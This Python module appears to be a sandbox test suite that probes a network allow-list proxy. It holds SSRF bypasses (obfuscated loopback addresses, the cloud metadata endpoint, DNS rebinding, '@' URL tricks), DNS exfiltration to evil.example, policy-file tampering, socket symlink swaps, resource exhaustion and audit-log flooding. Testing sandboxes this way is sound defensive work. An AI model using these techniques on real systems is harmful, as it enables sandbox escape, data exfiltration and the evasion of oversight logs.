"""Attempts past an allow-list: other hosts, other ports, other spellings, private addresses.

What two parsers could read in two ways is in `smuggling.py`. The names of `.example` are resolved
by the attack itself, on the host (`attacks/world.py`); nothing is sent off the machine.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import time

from .asking import ask, connection, fetch, get, hear, own_socket, proxied, tunnel, verdict
from .driver import Facts, Refused, attempt
from .words import place, tcp, tell, udp, word

ALSO = ("smuggling",)

# -- past the proxy --------------------------------------------------------------------------------


@attempt
def pass_the_proxy_by_tcp(facts: Facts) -> str:
    return tcp(place(facts, "tcp_outward"), word(facts))


@attempt
def pass_the_proxy_by_udp(facts: Facts) -> str:
    return udp(place(facts, "udp_outward"), word(facts))


@attempt
def pass_the_proxy_by_a_name_server(facts: Facts) -> str:
    name = word(facts)
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\0\0\1\0\1"
    return udp(place(facts, "udp_loopback"), question)


# -- hosts and ports -------------------------------------------------------------------------------


@proxied
def ask_for_another_host(facts: Facts) -> str:
    return fetch(facts, f"http://evil.example/{word(facts).decode()}", by="listing")


@proxied
def ask_for_another_host_at_the_socket(facts: Facts) -> str:
    """Without the forwarder: the proxy's unix socket itself."""
    text = word(facts).decode()
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1)
        sock.connect(own_socket(facts))
        sock.sendall(get(f"http://evil.example/{text}?good.example", "evil.example"))
        return verdict(hear(sock, b"heard"))


@proxied
def tunnel_to_another_host(facts: Facts) -> str:
    return tunnel(facts, "evil.example:80", word(facts), by="listing")


@proxied
def tunnel_to_another_port(facts: Facts) -> str:
    return tunnel(facts, "good.example:22", word(facts))


@proxied
def tunnel_to_another_port_by_another_spelling(facts: Facts) -> str:
    return tunnel(facts, "Odd.Example.:22", word(facts))


@proxied
def tunnel_to_the_hosts_loopback(facts: Facts) -> str:
    _, port = place(facts, "tcp_loopback")
    return tunnel(facts, f"127.0.0.1:{port}", word(facts), by="listing")


@proxied
def ask_the_proxy_for_itself(facts: Facts) -> str:
    """A tunnel to the proxy, and through it a request that comes from the host, as it were."""
    _, port = facts["proxies"]["naive"]
    name = word(facts).decode()
    request = get(f"http://evil.example/{name}?good.example", "evil.example")
    return tunnel(facts, f"127.0.0.1:{port}", request, by="listing")


@proxied
def put_the_allowed_name_into_the_path(facts: Facts) -> str:
    return fetch(facts, f"http://evil.example/good.example/{word(facts).decode()}")


@proxied
def put_the_allowed_name_first(facts: Facts) -> str:
    return fetch(facts, f"http://good.example.evil.example/{word(facts).decode()}")


@proxied
def put_the_allowed_name_last(facts: Facts) -> str:
    return fetch(facts, f"http://evilgood.example/{word(facts).decode()}")


@proxied
def stand_at_the_wildcards_edge(facts: Facts) -> str:
    """`*.wild.example` is no `notwild.example`."""
    return fetch(facts, f"http://notwild.example/{word(facts).decode()}")


@proxied
def put_the_allowed_name_before_an_at(facts: Facts) -> str:
    url = f"http://good.example@evil.example/{word(facts).decode()}"
    return fetch(facts, url, "evil.example")


@proxied
def tunnel_with_an_at(facts: Facts) -> str:
    return tunnel(facts, "good.example@evil.example:80", word(facts))


# -- spellings of the loopback ---------------------------------------------------------------------


def _local(facts: Facts, address: str, text: bytes) -> str:
    _, port = place(facts, "tcp_loopback")
    return fetch(facts, f"http://{address}:{port}/{text.decode()}?good.example")


@proxied
def spell_the_loopback_plainly(facts: Facts) -> str:
    return _local(facts, "127.0.0.1", word(facts))


@proxied
def spell_the_loopback_as_a_number(facts: Facts) -> str:
    return _local(facts, "2130706433", word(facts))


@proxied
def spell_the_loopback_in_octal(facts: Facts) -> str:
    return _local(facts, "0177.0.0.1", word(facts))


@proxied
def spell_the_loopback_in_hex(facts: Facts) -> str:
    return _local(facts, "0x7f000001", word(facts))


@proxied
def spell_the_loopback_short(facts: Facts) -> str:
    return _local(facts, "127.1", word(facts))


@proxied
def spell_the_loopback_as_zero(facts: Facts) -> str:
    return _local(facts, "0.0.0.0", word(facts))


@proxied
def spell_the_loopback_in_ipv6(facts: Facts) -> str:
    _, port = place(facts, "tcp_loopback6")[:2]
    return fetch(facts, f"http://[::1]:{port}/{word(facts).decode()}?good.example")


@proxied
def spell_the_loopback_as_ipv4_in_ipv6(facts: Facts) -> str:
    return _local(facts, "[::ffff:127.0.0.1]", word(facts))


@proxied
def ask_for_the_metadata_service(facts: Facts) -> str:
    return fetch(facts, f"http://169.254.169.254/{word(facts).decode()}?good.example")


# -- allowed names at addresses that are not -------------------------------------------------------


@proxied
def name_the_loopback(facts: Facts) -> str:
    """`localhost` is on the list, without the mark; the machine's own resolver answers."""
    return _local(facts, "localhost", word(facts))


@proxied
def name_a_private_address(facts: Facts) -> str:
    return fetch(facts, f"http://private.example/{word(facts).decode()}")


@proxied
def name_a_shared_address(facts: Facts) -> str:
    return fetch(facts, f"http://shared.example/{word(facts).decode()}")


@proxied
def name_a_link_local_address(facts: Facts) -> str:
    return fetch(facts, f"http://link.example/{word(facts).decode()}")


@proxied
def name_the_metadata_service(facts: Facts) -> str:
    return fetch(facts, f"http://meta.example/{word(facts).decode()}")


@proxied
def name_the_metadata_service_with_the_mark(facts: Facts) -> str:
    """`!near.example` may be private, and is at the one private address that it may not be."""
    return fetch(facts, f"http://near.example/{word(facts).decode()}")


@proxied
def name_an_address_in_disguise(facts: Facts) -> str:
    """64:ff9b::7f00:1 is 127.0.0.1 behind a NAT64."""
    return fetch(facts, f"http://disguise.example/{word(facts).decode()}")


@proxied
def name_a_private_address_among_others(facts: Facts) -> str:
    return fetch(facts, f"http://two.example/{word(facts).decode()}")


@proxied
def change_a_names_address(facts: Facts) -> str:
    """DNS rebinding: a public address when it is checked, the loopback when it is dialled."""
    _, port = place(facts, "tcp_loopback")
    url = f"http://rebind.example:{port}/{word(facts).decode()}"
    first = ask(facts, get(url, f"rebind.example:{port}"))
    if first.startswith(b"HTTP/1.1 2"):
        return verdict(first)
    return fetch(facts, url)


@proxied
def carry_words_out_in_a_refused_name(facts: Facts) -> str:
    """A look-up is a message to whoever owns the domain: a refused name must not be looked up."""
    name = f"{word(facts).decode()}.evil.example"
    return fetch(facts, f"http://{name}/")


# -- the proxy itself ------------------------------------------------------------------------------


@proxied
def change_the_policy_on_disk(facts: Facts) -> str:
    """Whatever the host may read of the sandbox's own folder says now that all is allowed."""
    changed = 0
    for folder in facts["run"]:
        if not os.path.isdir(folder):
            continue
        for name in ("boot.json", "policy", "allow", "network.json"):
            path = os.path.join(folder, name)
            text = "evil.example"
            if name == "boot.json" and os.path.exists(path):
                with open(path, encoding="utf-8") as file:
                    said = json.load(file)
                said["network"] = {
                    "walled": False,
                    "proxy": None,
                    "no_proxy": [],
                    "environment": {},
                }
                text = json.dumps(said)
                os.unlink(path)  # it may not be written, but the folder may
            with open(path, "w", encoding="utf-8") as file:
                file.write(text)
                changed += 1
    assert changed, "no folder to write to"
    return fetch(facts, f"http://evil.example/{word(facts).decode()}")


@proxied
def ask_again_with_a_new_kernel(facts: Facts) -> str:
    """After `change_the_policy_on_disk` the kernel was ended, and another one started."""
    return fetch(facts, f"http://evil.example/{word(facts).decode()}")


@attempt
def put_a_link_in_place_of_the_proxys_socket(facts: Facts) -> str:
    """Whoever follows it comes to a socket of the host's."""
    path = own_socket(facts)
    text = word(facts)
    os.rename(path, f"{path}.away")
    try:
        os.symlink(place(facts, "unix"), path)
        return tell(socket.socket(socket.AF_UNIX), path, text)
    finally:
        os.unlink(path)
        os.rename(f"{path}.away", path)


@proxied
def speak_for_ever(facts: Facts) -> str:
    """A head that never ends."""
    with connection(facts) as sock:
        sock.sendall(b"GET http://good.example/ HTTP/1.1\r\nX: ")
        sock.settimeout(0.2)
        deadline = time.monotonic() + facts["patience"]
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                return verdict(sock.recv(4096))
            sock.sendall(b"y")
    return f"the proxy waited for {facts['patience']} s"


@proxied
def hold_every_connection(facts: Facts) -> str:
    held = []
    for _ in range(facts["connections"] + 8):
        held.append(connection(facts))
        held[-1].sendall(b"GET http://good.example/ HTTP/1.1\r\n")
    deadline = time.monotonic() + 1.5
    while held and (left := deadline - time.monotonic()) > 0:
        for sock in select.select(held, [], [], left)[0]:
            if b" 503 " in sock.recv(4096):
                raise Refused(
                    "503 for what was too many", "the proxy: so many connections at a time"
                )
            held.remove(sock)
    return f"{len(held)} connections are held"


@proxied
def leave_no_record(facts: Facts) -> str:
    """A refused request; the host looks for its name in the sandbox's attempts."""
    name = f"{word(facts).decode()}.evil.example"
    return fetch(facts, f"http://{name}/")


@attempt
def drown_the_record(facts: Facts) -> str:
    """More refused requests than are kept; the host looks whether the rest is counted."""
    path, requests = own_socket(facts), facts["flood"]
    text = word(facts).decode()
    for n in range(requests):
        name = f"{text if n == requests - 1 else n}.evil.example"
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            sock.connect(path)
            sock.sendall(get(f"http://{name}/", name))
            sock.shutdown(socket.SHUT_WR)
            sock.recv(100)
    raise Refused(f"{requests} requests were refused", "the record counts what it does not keep")
